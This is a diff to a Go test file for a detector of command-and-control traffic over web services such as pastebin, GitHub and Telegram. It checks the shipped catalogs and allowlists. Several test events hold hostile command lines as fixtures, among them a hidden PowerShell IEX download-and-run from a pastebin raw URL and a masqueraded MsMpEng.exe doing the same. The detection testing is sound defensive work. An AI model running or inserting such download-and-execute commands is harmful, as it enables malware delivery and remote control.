@@ -11,7 +11,20 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-// shipped loads the catalog the app ships (../../app/lookups, ../../default).
+// testDetector loads the package's own small app folder, testdata/app:
+// the catalog rows and the weights the unit tests need, so that tuning the
+// shipped lookups breaks none of them. TestShippedCatalogs checks the
+// catalogs the app ships.
+func testDetector(t testing.TB) *Detector {
+	t.Helper()
+	c, err := LoadCatalog(filepath.Join("testdata", "app"), WebServicesFile)
+	require.NoError(t, err)
+	require.Empty(t, c.Warnings, "the test catalog loads whole")
+	return NewDetector(c)
+}
+
+// shipped loads the catalog the app ships (../../app/lookups, ../../default):
+// the benchmarks measure the catalog users run.
 func shipped(t testing.TB, services string) *Detector {
 	t.Helper()
 	c, err := LoadCatalog(filepath.Join("..", ".."), services)
@@ -142,7 +155,7 @@ func TestFindEncoded(t *testing.T) {
 }
 
 func TestDetector(t *testing.T) {
-	d := shipped(t, WebServicesFile)
+	d := testDetector(t)
 	tests := []struct {
 		name   string
 		reason string
@@ -473,8 +486,8 @@ func TestDetector(t *testing.T) {
 			check: func(t *testing.T, r *Result) {
 				require.False(t, r.Allowlisted)
 				require.True(t, r.Pass, "it fetches raw content itself")
-				require.Equal(t, "t1102_allowlist.csv:21", r.UnexpectedPath)
-				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:21)")
+				require.Equal(t, "t1102_allowlist.csv:5", r.UnexpectedPath)
+				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:5)")
 				require.GreaterOrEqual(t, r.RiskScore, 40)
 			},
 		},
@@ -551,7 +564,7 @@ func TestDetector(t *testing.T) {
 			check: func(t *testing.T, r *Result) {
 				require.False(t, r.Allowlisted)
 				require.True(t, r.Pass, "it fetches raw content itself")
-				require.Contains(t, strs(r.Reasons), "not allowlisted by t1102_allowlist.csv:11: it runs what it fetches")
+				require.Contains(t, strs(r.Reasons), "not allowlisted by t1102_allowlist.csv:4: it runs what it fetches")
 			},
 		},
 		{
@@ -916,18 +929,101 @@ func TestCatalogErrors(t *testing.T) {
 	})
 }
 
+// TestShippedCatalogs: the catalogs the app ships (app/lookups and
+// default/t1102.conf, with either web-service lookup) load whole, keep the
+// original detection's categories, and judge as the shipped app must: the
+// original's false positives and shared infrastructure name no service,
+// the Atomic tests' requests are judged, the common programs the
+// allowlist and the context lookup name get their rule, and a copy of one
+// outside its place does not. The unit tests use testdata/app instead.
 func TestShippedCatalogs(t *testing.T) {
-	for _, f := range []string{WebServicesFile, WebServicesLOTSFile} {
-		d := shipped(t, f)
-		cats := map[string]bool{}
-		for _, s := range d.cat.Services {
-			cats[s.Category] = true
-		}
-		for _, c := range []string{"twitter", "github", "gitlab", "telegram", "pastebin", "discord", "google_services", "reddit", "other_webservice", "microsoft_personal"} {
-			require.True(t, cats[c], "%s keeps the original category %s", f, c)
-		}
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	tests := []struct {
+		name, reason string
+		ev           Event
+		check        func(t *testing.T, r *Result)
+	}{
+		{"raw GitHub", "the dead drop of the Atomic tests", Event{EventCode: b("22"), Image: b(ps), QueryName: b("raw.githubusercontent.com")},
+			func(t *testing.T, r *Result) {
+				require.Equal(t, "github", r.Category)
+				require.True(t, r.RawContent)
+				require.True(t, r.Pass)
+			}},
+		{"iex of a paste", "the Atomic pastebin test alerts", Event{EventCode: b("1"), Image: b(ps),
+			CommandLine: b(`powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')"`)},
+			func(t *testing.T, r *Result) {
+				require.Equal(t, "pastebin", r.Category)
+				require.True(t, r.CommandEndpoint)
+				require.NotEmpty(t, r.DownloadExecute)
+				require.True(t, r.Pass)
+			}},
+		{"telegram getUpdates", "a bot's getUpdates hands out commands", Event{EventCode: b("1"), Image: b(`C:\Windows\System32\curl.exe`),
+			CommandLine: b(`curl -s https://api.telegram.org/bot1:AA/getUpdates`)},
+			func(t *testing.T, r *Result) {
+				require.Equal(t, "telegram", r.Category)
+				require.True(t, r.CommandEndpoint)
+			}},
+		{"dropbox", "the original's x\\.com matched dropbox.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("www.dropbox.com")},
+			func(t *testing.T, r *Result) { require.NotEqual(t, "twitter", r.Category) }},
+		{"meraki", "the original's t\\.me matched smart.meraki.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("smart.meraki.com")},
+			func(t *testing.T, r *Result) { require.NotEqual(t, "telegram", r.Category) }},
+		{"google reverse dns", "a 1e100.net name says Google, not which service", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("lhr25s34-in-f14.1e100.net")},
+			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
+		{"gcp reverse dns", "a Google Cloud customer's machine, though LOTS lists googleusercontent.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("34.1.2.3.bc.googleusercontent.com")},
+			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
+		{"cdn", "a shared CDN, though LOTS lists cloudfront.net", Event{EventCode: b("22"), Image: b(ps), QueryName: b("d1a2b3c4.cloudfront.net")},
+			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
+		{"git for windows", "git over HTTPS to GitHub is ordinary work", Event{EventCode: b("3"), Image: b(`C:\Program Files\Git\mingw64\bin\git-remote-https.exe`), DestinationHostname: b("github.com")},
+			func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) }},
+		{"defender", "Defender's URL reputation lookups", Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2009.7-0\MsMpEng.exe`), QueryName: b("raw.githubusercontent.com")},
+			func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) }},
+		{"defender's name elsewhere", "a MsMpEng.exe in C:\\Users\\Public is not Defender", Event{EventCode: b("1"), Image: b(`C:\Users\Public\MsMpEng.exe`),
+			CommandLine: b(`MsMpEng.exe -c "iex(iwr https://pastebin.com/raw/abc)"`)},
+			func(t *testing.T, r *Result) {
+				require.False(t, r.Allowlisted)
+				require.True(t, strings.HasPrefix(r.UnexpectedPath, AllowlistFile+":"), r.UnexpectedPath)
+				require.True(t, r.Pass)
+			}},
+		{"npm", "npm resolving a GitHub dependency is package-manager context", Event{EventCode: b("22"), Image: b(`C:\Program Files\nodejs\node.exe`), QueryName: b("codeload.github.com"),
+			CommandLine: b(`"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install`)},
+			func(t *testing.T, r *Result) {
+				require.Equal(t, "package_manager", r.ContextKind)
+				require.False(t, r.Pass)
+			}},
+		{"release asset", "a GitHub release download is an artifact", Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`),
+			CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
+			func(t *testing.T, r *Result) {
+				require.Equal(t, "artifact_download", r.ContextKind)
+				require.False(t, r.Pass)
+			}},
 	}
-	require.Greater(t, len(shipped(t, WebServicesLOTSFile).cat.Services), 150, "the LOTS catalog is the larger one")
+	var sizes []int
+	for _, f := range []string{WebServicesFile, WebServicesLOTSFile} {
+		t.Run(f, func(t *testing.T) {
+			c, err := LoadCatalog(filepath.Join("..", ".."), f)
+			require.NoError(t, err)
+			require.Empty(t, c.Warnings, "the shipped catalog loads whole")
+			sizes = append(sizes, len(c.Services))
+			cats := map[string]bool{}
+			for _, s := range c.Services {
+				cats[s.Category] = true
+			}
+			for _, cat := range []string{"twitter", "github", "gitlab", "telegram", "pastebin", "discord", "google_services", "reddit", "other_webservice", "microsoft_personal"} {
+				require.True(t, cats[cat], "%s keeps the original category %s", f, cat)
+			}
+			s := NewDetector(c).NewScorer()
+			for _, tt := range tests {
+				t.Run(tt.name, func(t *testing.T) {
+					require.NotEmpty(t, tt.reason)
+					r := s.Score(&tt.ev)
+					tt.check(t, r)
+					requireExplained(t, r)
+				})
+			}
+		})
+	}
+	require.Len(t, sizes, 2)
+	require.Greater(t, sizes[1], sizes[0], "the LOTS catalog is the larger one")
 }
 
 func BenchmarkScorer(b *testing.B) {
